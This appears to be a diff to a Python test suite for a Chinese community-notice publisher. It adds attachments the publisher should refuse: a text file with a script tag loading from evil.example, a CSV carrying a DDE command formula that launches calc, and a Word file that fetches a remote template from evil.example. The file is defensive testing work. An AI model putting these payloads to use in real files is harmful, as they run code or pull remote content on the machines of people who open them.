@@ -105,6 +105,24 @@ def zip_bomb_docx(marker: str) -> bytes:
     return buf.getvalue()
 
 
+def docx_remote_template(marker: str) -> bytes:
+    """A Word file that fetches its template from another host when opened."""
+    import io
+    import zipfile
+    src = zipfile.ZipFile(io.BytesIO(fm.docx([marker])))
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as out:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == "word/_rels/document.xml.rels":
+                data = data.replace(b"</Relationships>", (
+                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+                    b"</Relationships>"))
+            out.writestr(info, data)
+    return buf.getvalue()
+
+
 def plain_zip(marker: str) -> bytes:
     import io
     import zipfile
@@ -192,6 +210,9 @@ REFUSED: list[tuple[Case, str]] = [
     (_att("xlsx_sheet_title", "title.xlsx", fm.xlsx([["HXXLSXSHEETTITLEQ"]], title=f"张三{MOBILE}")), "手机号"),
     (_att("gbk_txt_id", "gbk.txt", f"身份证号码：{ID}\nHXGBKTXTIDQ".encode("gb18030")), "身份证"),
     (_att("csv_mobile", "list.csv", f"姓名,电话\nHXCSVMOBILEQ,{MOBILE}\n"), "手机号"),
+    (_att("txt_script_inside", "inside.txt", "停水通知\n详见 <script src=//evil.example/{m}.js></script>\n"), "网页"),
+    (_att("csv_formula", "dde.csv", "姓名,备注\nHXCSVFORMULAQ,=cmd|' /C calc'!A0\n"), "公式"),
+    (_att("docx_remote_template", "remote.docx", docx_remote_template("HXDOCXREMOTETEMPLATEQ")), "下载模板"),
     (_att("txt_hardship", "visit.txt", "走访记录\n低保户张桂芳今年七十岁，HXTXTHARDSHIPQ。\n"), "第 2 行"),
     # --- unreadable, broken, too big ---
     (_att("pdf_scan_unreviewed", "scan.pdf", fm.pdf([None, None])), "reviewed: true"),
@@ -310,6 +331,8 @@ BUILT: list[Case] = [
                           **notice("title-markup", '[{file: files/ok-title.txt, title: "<script>{m}</script>"}]')},
          forbidden=(b"<script>{m}",)),
     Case("docx_published", {"files/ok.docx": fm.docx(["社区通知"]), **notice("docx-published", "[files/ok.docx]")}),
+    Case("single_attachment", {"files/single.txt": "一个附件，不写成列表", **notice("single-attachment", "files/single.txt")}),
+    Case("csv_numbers_ok", {"files/minus.csv": "项目,变化\n用水,-3\n用电,+2\n", **notice("csv-numbers-ok", "[files/minus.csv]")}),
 ]
 
 
@@ -396,3 +419,8 @@ def test_text_attachment_reads_as_chinese_in_chromium_without_charset(built, tmp
     finally:
         server.shutdown()
         server.server_close()
+
+
+def test_single_attachment_without_a_list_is_published(built):
+    assert (built[2] / "attachments/files/single.txt").read_bytes().startswith(b"\xef\xbb\xbf")
+    assert (built[2] / "attachments/files/minus.csv").exists()
